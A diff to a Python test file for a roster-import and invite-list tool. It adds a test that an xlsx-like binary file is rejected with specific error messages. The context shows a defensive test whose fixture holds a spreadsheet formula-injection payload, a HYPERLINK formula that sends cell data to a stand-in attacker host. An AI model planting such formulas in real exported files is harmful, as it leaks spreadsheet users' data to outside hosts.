@@ -139,6 +139,18 @@ def test_a_broken_roster_gets_line_errors_and_writes_nothing(tmp_path: Path) -> 
     ]
 
 
+def test_a_file_in_no_known_encoding_is_one_line(tmp_path: Path) -> None:
+    roster = tmp_path / "roster.xlsx"
+    roster.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\x81\x8d\x8f")
+    result = run_cli("import", str(roster), env={"DATABASE_PATH": str(tmp_path / "s.sqlite3")},
+                     cwd=tmp_path)
+    assert result.returncode == 1
+    assert result.stderr.splitlines() == [
+        'line 1: the file is neither UTF-8 nor Windows-1252; save it from Excel as "CSV UTF-8"',
+        f"nothing imported: 1 bad rows (fix them, or use --skip-bad-rows); {roster} is no text "
+        "file Excel saves"]
+
+
 def test_invite_lists_never_hold_a_formula(tmp_path: Path) -> None:
     env = {"DATABASE_PATH": str(tmp_path / "school.sqlite3"), "BOT_USERNAME": "school_bot"}
     names = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 6 12345678", "@Sanne",
